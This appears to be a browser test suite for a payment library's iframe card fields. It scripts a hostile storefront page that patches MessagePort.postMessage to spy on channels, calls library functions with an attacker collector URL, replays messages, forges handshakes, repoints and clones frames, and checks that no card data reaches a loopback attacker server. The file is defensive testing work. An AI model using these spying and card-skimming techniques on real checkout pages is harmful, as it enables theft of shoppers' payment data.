// The secure fields attacked from the storefront page, in the engine ENGINE names (Firefox ESR or WebKitGTK), the way
// a hostile script there would, after the shopper typed a card with real key events: it calls every function it can
// reach with its own URLs, replays the messages it saw with its own ports and forges handshakes, points the fields at
// its own page posing as a ready field, clones the frames and injects a field into the group. Each test ends with no
// card data at the attacker's server (test/attacker-server.mjs, a third origin on loopback that records every request)
// or in anything the page received, and no request made to the attacker's API. The page is examples/script-tag.html,
// as in card-fields.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { attackerUrl, baseUrl, eventually, launchEngine } from './engine.mjs';
import { CVV, EXPIRY, NUMBER, openPage, typeInto } from './shopper.mjs';

const PAN = '4444222233331111';

/** @type {import('./engine.mjs').Engine} */
let engine;
before(async () => {
  engine = await launchEngine();
});
after(() => engine?.close());

let runs = 0;
/** A collector address of the attacker's, one per test (its records are listed by run). */
function newRun() {
  const run = `${engine.name}-${++runs}`;
  return { run, collector: `${attackerUrl}/${run}` };
}
const attackerLog = async (run) => (await fetch(`${attackerUrl}/__log?run=${run}`)).json();
/** The sources of the sandbox the example page's frames trust. */
const sandboxSources = async () => (await (await fetch(`${baseUrl}/sandbox-api/~example/__sandbox/sources`)).json()).sources.map(({ id }) => id);

/** Card data in a text: the number, or a `number`/`cvv`/`raw` field. (A source's expiry and last four are public.) */
const cardDataIn = (text) => [PAN, '"number":', '"cvv":', '"raw":'].filter((needle) => text.includes(needle));

// Runs in the page, as a script that came after the library: from now on it keeps the page's end of every channel
// the page posts on, and everything the page receives there or on its window.
function spyOnChannels() {
  const attack = (window.attack = { ports: [], sent: [], received: [], states: [] });
  const originalPost = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (data, ...rest) {
    if (!attack.ports.includes(this)) {
      attack.ports.push(this);
      this.addEventListener('message', (event) => attack.received.push(event.data));
    }
    try {
      attack.sent.push({ port: this, data: structuredClone(data) });
    } catch {
      // a message carrying a port: nothing to replay
    }
    return originalPost.call(this, data, ...rest);
  };
  addEventListener('message', (event) => attack.received.push(event.data));
}

// Runs in the page: everything the attack received, as text (ports and nodes left out).
function attackReceived() {
  const seen = new WeakSet();
  return JSON.stringify([window.attack.received, window.attack.states, window.attack.results ?? []], (_key, value) => {
    if (value instanceof MessagePort || value instanceof Node || value instanceof Window) return '[not data]';
    if (value && typeof value === 'object') {
      if (seen.has(value)) return '[seen]';
      seen.add(value);
    }
    return value;
  });
}

/** Opens the page with the spy in it, and types a card into the three fields with real key events. */
async function filledCard() {
  await openPage(engine);
  await engine.evaluate(spyOnChannels);
  await typeInto(engine, NUMBER, PAN);
  await typeInto(engine, EXPIRY, '1130');
  await typeInto(engine, CVV, '123');
  await eventually(() => engine.evaluate(() => Object.values(window.lastChange).filter((state) => state.complete).length), 3, 'all three complete');
  // The controller frame starts once the fields are ready; a shopper may type quicker than it loads.
  await eventually(
    () => engine.evaluate(() => document.querySelector('#card-number > *').fieldGroup.version()),
    (version) => typeof version === 'string' && !version.startsWith('-'),
    'the controller holds the card',
  );
}

/** The shopper presses Pay: what the page shows once the frames answered. */
async function payResult() {
  await engine.evaluate(() => (document.getElementById('result').textContent = ''));
  await engine.click(null, '#pay');
  return eventually(() => engine.evaluate(() => document.getElementById('result').textContent), (text) => text !== '', 'the result', 15_000);
}

/** The shopper presses Pay: the genuine source, made at the sandbox the frames trust. */
async function pay() {
  const result = await payResult();
  assert.match(result, /^Source \S+: chargeable, Visa ending 1111$/);
  return result.split(' ')[1].replace(/:$/, '');
}

// Runs in the page: calls every function reachable from the DigitalRiver object and the elements with the attacker's
// URLs and ports, as a page script can walk them. Keeps what the calls return in window.attack.results.
function callEverything(collector) {
  const attack = window.attack;
  const attackerPort = () => {
    const channel = new MessageChannel();
    channel.port1.onmessage = (event) => attack.received.push(event.data);
    return channel.port2;
  };
  const api = { baseUrl: collector, publicKey: 'pk_test_attack' };
  const argumentSets = [
    [api, { type: 'creditCard' }],
    [api, 'src_x', 'secret', {}],
    [{ call: 'tokenize', api, fields: {}, data: {} }],
    [{ call: 'createSource', api, data: { type: 'creditCard' } }],
    [{ call: 'retrieveSource', api, sourceId: 'src_x', clientSecret: 'secret' }],
    [{ call: 'authenticateSource', api, sourceId: 'src_x', clientSecret: 'secret', body: {} }],
    [{ call: 'updateSource', api, sourceId: 'src_x', clientSecret: 'secret', body: {} }],
    [{ type: 'dr-field-connect', kind: 'cardnumber', apiBaseUrl: collector }, attackerPort()],
    [collector],
    [`${collector}/frame.html`],
  ];
  const seen = new Set();
  const calls = [];
  const builtIn = [Object, Function, Map, Set, Array, Promise, WeakMap, EventTarget, Node, Element, HTMLElement].map((type) => type.prototype);
  const walk = (value, depth) => {
    if (!value || (typeof value !== 'object' && typeof value !== 'function') || seen.has(value) || depth > 6) return;
    if (value === window || value === document || (value instanceof Node && !(value instanceof HTMLElement && value.localName.startsWith('dr-')))) return;
    seen.add(value);
    const values = value instanceof Map ? [...value.values(), ...value.keys()] : value instanceof Set ? [...value] : [];
    // Methods the library defines (built-in collections and DOM methods only break the page, which is out of scope).
    const names = new Set();
    for (let proto = value; proto && !builtIn.includes(proto); proto = Object.getPrototypeOf(proto)) {
      for (const name of Object.getOwnPropertyNames(proto)) names.add(name);
    }
    for (const name of names) {
      // Tearing down the page's own side (a connection's close, or connect, which closes it first) only breaks the
      // page's checkout, which a hostile page can always do.
      if (['constructor', 'remove', 'destroy', 'unmount', 'disconnectedCallback', 'close', 'connect'].includes(name)) continue;
      let property;
      try {
        property = value[name];
      } catch {
        continue;
      }
      if (typeof property === 'function' && typeof value === 'object') {
        for (const args of argumentSets) {
          try {
            calls.push(property.apply(value, args));
          } catch {
            // a throwing call leaks nothing
          }
        }
      } else values.push(property);
    }
    for (const next of values) walk(next, depth + 1);
  };
  walk(dr, 0);
  walk(number, 0);
  walk(number.fieldElement, 0);
  walk(document.querySelector('#card-number > *'), 0);
  attack.results = [];
  attack.pending = calls.length;
  for (const call of calls) {
    Promise.resolve(call).then(
      (value) => attack.results.push(value),
      (error) => attack.results.push(String(error)),
    ).finally(() => attack.pending--);
  }
  return { objects: seen.size, calls: calls.length };
}

test('a page script calls every function it can reach from DigitalRiver and the elements with its own URLs: no card data and no request reach it', async () => {
  const { run, collector } = newRun();
  await filledCard();
  const sourcesBefore = await sandboxSources();
  const reached = await engine.evaluate(callEverything, collector);
  assert.ok(reached.objects > 10, `objects reached: ${reached.objects}`);
  assert.ok(reached.calls > 50, `functions called: ${reached.calls}`);
  // The positive signal: the shopper presses Pay after the attack, and the genuine request over the same channels comes
  // back, so the frames have handled every request the attack made before it (one they ignore is left unanswered).
  // Concurrent createSource calls share one request, so Pay waits for the attack's own to end first. (The attack's
  // clear() and erase() emptied fields of the page's own: the answer may be that a field is incomplete.)
  await eventually(() => engine.evaluate(() => dr.pendingSource === undefined), true, 'the attack\'s createSource calls ended');
  const result = await payResult();
  assert.match(result, /^(Source \S+: chargeable, Visa ending 1111|Error: Your card number is incomplete\.)$/);
  assert.deepEqual(await attackerLog(run), []);
  assert.deepEqual(cardDataIn(await engine.evaluate(attackReceived)), []);
  const made = (await sandboxSources()).filter((id) => !sourcesBefore.includes(id));
  assert.ok(made.every((id) => result.startsWith(`Source ${id}:`)), `the only new source is the shopper's: ${made}`);
});

// Runs in the page: replays every message the page sent, over its port, with the attacker's ports (and with the
// attacker's API where the message names one); asks every port for the old protocol's reads; and posts second
// handshakes with the attacker's ports to every frame, the ones in the elements' shadow roots too.
function replayAndForge(collector) {
  const attack = window.attack;
  const attackerPort = () => {
    const channel = new MessageChannel();
    channel.port1.onmessage = (event) => attack.received.push(event.data);
    return channel.port2;
  };
  let id = 10_000;
  let replayed = 0;
  const send = (port, message) => {
    port.postMessage({ ...message, id: ++id }, [attackerPort()]);
    replayed++;
  };
  for (const { port, data } of [...attack.sent]) {
    if (!data || typeof data !== 'object') continue;
    send(port, data);
    if (data.api) send(port, { ...data, api: { ...data.api, baseUrl: collector } });
  }
  for (const port of [...attack.ports]) {
    send(port, { call: 'sibling', kind: 'cardcvv' });
    send(port, { call: 'read' });
    send(port, { call: 'tokenize', api: { baseUrl: collector, publicKey: 'pk_test_attack' }, data: {} });
    send(port, { call: 'createSource', api: { baseUrl: collector, publicKey: 'pk_test_attack' }, data: { type: 'creditCard' } });
  }
  const frames = [];
  const search = (root) => {
    for (const element of root.querySelectorAll('*')) {
      if (element.localName === 'iframe') frames.push(element);
      if (element.shadowRoot) search(element.shadowRoot);
    }
  };
  search(document);
  let handshakes = 0;
  for (const frame of frames) {
    for (const type of ['dr-field-connect', 'dr-controller-connect']) {
      for (const kind of ['cardnumber', 'cardexpiration', 'cardcvv']) {
        frame.contentWindow.postMessage({ type, kind, apiBaseUrl: collector }, '*', [attackerPort()]);
        handshakes++;
      }
    }
  }
  return { sent: attack.sent.length, ports: attack.ports.length, replayed, frames: frames.length, handshakes };
}

test('the page replays every message it saw with its own ports and API, and posts forged handshakes to every frame: no card data and no request reach it', async () => {
  const { run, collector } = newRun();
  await filledCard();
  // A genuine source and the page's own API calls first, so every kind of request has been sent once.
  const sourceId = await pay();
  const ownCalls = await engine.evaluate(async (id) => {
    const created = await dr.createSource(number, { type: 'creditCard' });
    const retrieved = await dr.retrieveSource(created.source.id, created.source.clientSecret);
    const authenticated = await dr.authenticateSource({ sourceId: created.source.id, sourceClientSecret: created.source.clientSecret });
    return [retrieved.source?.id === created.source.id, authenticated.status, typeof id];
  }, sourceId);
  assert.deepEqual(ownCalls, [true, 'authentication_not_required', 'string']);
  const forged = await engine.evaluate(replayAndForge, collector);
  assert.ok(forged.replayed > 5 && forged.frames >= 4, JSON.stringify(forged));
  // The positive signal: the shopper pays again after the attack, through the same channels, and gets a source.
  await pay();

  assert.deepEqual(await attackerLog(run), []);
  const received = await engine.evaluate(attackReceived);
  assert.ok(JSON.parse(received)[0].length > 5, 'the frames answered the page\'s end of the channels');
  assert.deepEqual(cardDataIn(received), []);
});

test('the page points the filled fields at its own page posing as a ready field (frameUrl, frame-url, a hostile locale): no card data reaches it, and the genuine frames keep the card', async () => {
  const { run, collector } = newRun();
  await filledCard();
  const sourcesBefore = await sandboxSources();
  await engine.evaluate((attackerFrame, collectorUrl) => {
    number.fieldElement.frameUrl = attackerFrame;
    expiry.fieldElement.setAttribute('frame-url', attackerFrame);
    // A locale names the language script the frame loads: it can only pick one of the frame origin's own.
    cvv.fieldElement.locale = `../../../${collectorUrl}/x`;
  }, `${collector}/frame.html`, collector);
  // The attacker's page reports every message it is sent: both hijacked fields loaded it and were talked to.
  await eventually(async () => (await attackerLog(run)).filter((record) => record.path.endsWith('/message')).length >= 2, true, 'both hijacked fields loaded the attacker\'s page');
  const hijacked = await engine.evaluate(async () => JSON.stringify(await dr.createSource(number, { type: 'creditCard' })));
  assert.ok('error' in JSON.parse(hijacked), hijacked);
  // The card stayed on the frame origin: pointed back at the genuine frames, the fields have it again, and Pay works.
  await engine.evaluate(() => {
    number.fieldElement.frameUrl = frameUrl;
    expiry.fieldElement.setAttribute('frame-url', frameUrl);
  });
  await eventually(() => engine.evaluate(() => [number.fieldElement.state.complete, expiry.fieldElement.state.complete]), [true, true], 'the genuine frames have the card back');
  const sourceId = await pay();

  const log = await attackerLog(run);
  assert.deepEqual(cardDataIn(log.map((record) => record.body).join('\n')), []);
  // What it got besides loads of its own page: the messages its frames were sent (settings and commands).
  const posted = log.filter((record) => record.method !== 'GET').map((record) => record.path);
  assert.ok(posted.every((path) => path.endsWith('/message')), JSON.stringify(posted));
  assert.deepEqual(cardDataIn(await engine.evaluate(attackReceived)), []);
  assert.deepEqual((await sandboxSources()).filter((id) => !sourcesBefore.includes(id)), [sourceId], 'the only new source is the shopper\'s');
});

// Runs in the page: clones the number's frame and the controller (same URLs) and handshakes with each over a channel
// of its own; what they answer goes to window.attack.states.
async function cloneFrames() {
  const attack = window.attack;
  const original = number.fieldElement.shadowRoot.querySelector('iframe');
  const controller = [...document.querySelectorAll('iframe')].find((frame) => frame.src.includes('controller.html'));
  const clone = async (src, handshake) => {
    const frame = document.createElement('iframe');
    frame.src = src;
    const loaded = new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
    document.body.append(frame);
    await loaded;
    const channel = new MessageChannel();
    channel.port1.onmessage = (event) => attack.states.push(event.data);
    frame.contentWindow.postMessage(handshake, new URL(src).origin, [channel.port2]);
    return { frame, port: channel.port1 };
  };
  attack.clones = {
    field: await clone(original.src, { type: 'dr-field-connect', kind: 'cardnumber' }),
    controller: await clone(controller.src, { type: 'dr-controller-connect' }),
  };
  attack.fieldId = new URLSearchParams(new URL(original.src).hash.slice(1)).get('field');
  return { contentDocument: attack.clones.field.frame.contentDocument === null };
}

test('the page clones the frames (same URLs, its own handshake) and asks the controller clone to tokenize for its API: the clone refuses, and nothing reaches the attacker', async () => {
  const { run, collector } = newRun();
  await filledCard();
  const sourcesBefore = await sandboxSources();
  assert.deepEqual(await engine.evaluate(cloneFrames), { contentDocument: true }, 'the clone is cross-origin to the page');
  // The field clone shows the value back to its shopper (its state says complete), the controller clone says ready.
  await eventually(() => engine.evaluate(() => window.attack.states.some((state) => state?.state?.complete === true)), true, 'the field clone is complete');
  await eventually(() => engine.evaluate(() => window.attack.states.some((state) => state?.event === 'ready' && 'defaultApiBaseUrl' in state)), true, 'the controller clone is ready');
  await engine.evaluate((collectorUrl) => {
    const { port } = window.attack.clones.controller;
    const fields = { cardnumber: window.attack.fieldId };
    port.postMessage({ id: 1, call: 'tokenize', fields, api: { baseUrl: collectorUrl, publicKey: 'pk_test_attack' }, data: {} });
    port.postMessage({ id: 2, call: 'createSource', fields, api: { baseUrl: collectorUrl, publicKey: 'pk_test_attack' }, data: { type: 'creditCard' } });
    port.postMessage({ id: 3, call: 'version', fields });
  }, collector);
  // The positive signal: the controller clone answers all three.
  const answers = await eventually(
    () => engine.evaluate(() => JSON.stringify([1, 2, 3].map((id) => window.attack.states.find((state) => state?.id === id) ?? null))),
    (text) => !JSON.parse(text).includes(null),
    'the controller clone answered',
  );
  const [tokenized, created] = JSON.parse(answers);
  assert.equal(tokenized.result?.error?.errors?.[0]?.code, 'api_origin_not_allowed', JSON.stringify(tokenized));
  assert.equal(created.result?.error?.errors?.[0]?.code, 'api_origin_not_allowed', JSON.stringify(created));

  assert.deepEqual(await attackerLog(run), []);
  assert.deepEqual(cardDataIn(await engine.evaluate(attackReceived)), []);
  assert.deepEqual((await sandboxSources()).filter((id) => !sourcesBefore.includes(id)), []);
});

test('the page injects a second number field of its own into the filled group: it joins empty, and Pay makes no source from it', async () => {
  await filledCard();
  const sourcesBefore = await sandboxSources();
  await engine.evaluate(() => {
    const box = document.createElement('div');
    box.id = 'injected-number';
    document.body.append(box);
    window.attack.injected = dr.createElement('cardnumber', {});
    window.attack.injected.on('ready', () => (window.attack.injectedReady = true));
    window.attack.injected.mount('injected-number');
  });
  await eventually(() => engine.evaluate(() => window.attack.injectedReady === true), true, 'the injected field is ready');
  // Its frame does not show the typed number: the card stays with the shopper's field.
  assert.equal((await engine.evaluateInFrame('#injected-number', () => document.querySelector('input').value)), '');
  const result = await payResult();
  assert.equal(result, 'Error: Your card number is incomplete.');

  assert.deepEqual(cardDataIn(await engine.evaluate(attackReceived)), []);
  assert.deepEqual((await sandboxSources()).filter((id) => !sourcesBefore.includes(id)), []);
});
